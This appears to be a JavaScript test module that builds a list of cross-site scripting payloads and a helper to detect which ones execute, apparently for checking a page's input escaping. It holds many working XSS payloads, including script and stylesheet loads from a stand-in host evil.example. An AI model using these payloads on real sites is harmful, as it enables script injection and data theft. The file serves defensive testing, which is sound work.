// What somebody might write to have the page run it. Each calls xss(N) with a number of its own.

const SEEDS = [
  '<script>@</script>', '<ScRiPt>@</sCrIpT>', '<script src=//evil.example/x.js></script>@', '<script>/*', '*/@//</script>',
  '<img src=x onerror=@>', '<img src=x onerror="@">', "<img/src='x'/onerror='@'>", '<svg onload=@>', '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>', '<svg><a xlink:href="javascript:@"><text y=9>x</text></a></svg>',
  '<body onload=@>', '<iframe src="javascript:@"></iframe>', '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<object data="data:text/html,<script>@</script>"></object>', '<embed src="javascript:@">', '<details open ontoggle=@>x</details>',
  '<input autofocus onfocus=@>', '<select autofocus onfocus=@>', '<video><source onerror=@></video>', '<audio src=x onerror=@>',
  '<marquee onstart=@>x</marquee>', '<math><maction actiontype="statusline#" xlink:href="javascript:@">x</maction></math>',
  '<form action="javascript:@"><button>x</button></form>', '<button formaction="javascript:@">x</button>', '<a href="javascript:@">x</a>',
  '<a href="data:text/html,<script>@</script>">x</a>', '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<base href="//evil.example/">@', '<link rel=stylesheet href=//evil.example/x.css>@', '<style>*{background:url(//evil.example/@)}</style>',
  '<style onload=@></style>', '<template><script>@</script></template>', '<noscript><p title="</noscript><img src=x onerror=@>">',
  'javascript:@', 'JaVaScRiPt:@', 'java\tscript:@', 'javascript://%0a@', 'data:text/html,<script>@</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=@', 'vbscript:@', 'blob:http://127.0.0.1/@', '//evil.example/@',
  '${@}', '`${@}`', '#{@}', '{{@}}', '{{constructor.constructor("@")()}}', '<%= @ %>', '[[@]]', '${globalThis.@}',
  '<${"script"}>@</${"script"}>', '<${Component} />@', '<div dangerouslySetInnerHTML=${{__html: "<img src=x onerror=@>"}} />',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=@>"}}', '{"type":"script","props":{"children":"@"},"constructor":null}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=@>"}}', '__proto__ @', 'constructor @', '{"a":"</pre><script>@</script>"}',
  '\u202e<script>@</script>', '\u2066@\u2069\u202d', '\u200b\u200f\u200e@', '\ufeff<script>@</script>', '\u2028@\u2029', '\ud83d\ude00@',
  '<scr\0ipt>@</scr\0ipt>', '\0<script>@</script>', '<img src=x \0onerror=@>', '\x1b]8;;javascript:@\x07x\x1b]8;;\x07', '\x08\x0c\x7f@',
  '&lt;script&gt;@&lt;/script&gt;', '&#60;script&#62;@&#60;/script&#62;', '&#x3c;img src=x onerror=@&#x3e;', '%3Cscript%3E@%3C/script%3E',
  '\\u003cscript\\u003e@\\u003c/script\\u003e', '\\x3cscript\\x3e@\\x3c/script\\x3e', '+ADw-script+AD4-@+ADw-/script+AD4-', '<\\/script>@',
  '<script src="app.js?x=@"></script>', '<script src=api/v1/default/jobs/x/payload></script>@', '<script nonce=x>@</script>',
  '<link rel=modulepreload href="data:text/javascript,@">', '<img src="api/v1/?@">', '<script type=importmap>{"imports":{"./dom.js":"data:,@"}}</script>',
  '"style="background:url(javascript:@)', "' onmouseover='@' x='", '" onfocus="@" autofocus x="', '"><img src=x onerror=@>', "'><svg onload=@>",
  '--><script>@</script>', ']]><script>@</script>', '</title><script>@</script>', '</textarea><script>@</script>', '</style><script>@</script>',
  `@${'W'.repeat(150)}`, `<script>${'/**/'.repeat(30)}@</script>`, `${'<b>'.repeat(40)}@`, '\u0645\u0631\u062d\u0628\u0627 <img src=x onerror=@>',
];

const AROUND = [(s) => s, (s) => `"'>${s}<!--`];

export const strings = AROUND.flatMap((put, round) => SEEDS.map((seed, i) => {
  const call = `xss(${round * SEEDS.length + i})`;
  return put(seed.includes('@') ? seed.replaceAll('@', call) : `${seed}${call}`);
})).slice(0, 200);

// The numbers of those that a text shows.
export const found = (text) => [...text.matchAll(/xss\((\d+)\)/g)].map((m) => Number(m[1]));
